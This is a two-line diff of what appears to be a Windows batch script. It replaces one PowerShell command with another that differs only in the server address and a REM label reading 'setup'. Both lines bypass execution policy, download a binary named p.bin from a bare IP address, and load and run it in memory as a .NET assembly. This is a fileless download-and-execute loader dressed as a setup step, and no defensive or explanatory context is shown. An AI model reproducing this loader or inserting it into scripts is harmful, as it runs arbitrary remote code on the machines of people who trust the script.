@@ -1,2 +1,2 @@
-REM bootstrap 5047 v4
-powershell -ep bypass -c "$d=(New-Object Net.WebClient).DownloadData('http://198.51.100.23/p.bin');[Reflection.Assembly]::Load($d).EntryPoint.Invoke($null,$null)"
+REM setup 0508 v4
+powershell -ep bypass -c "$d=(New-Object Net.WebClient).DownloadData('http://203.0.113.17/p.bin');[Reflection.Assembly]::Load($d).EntryPoint.Invoke($null,$null)"
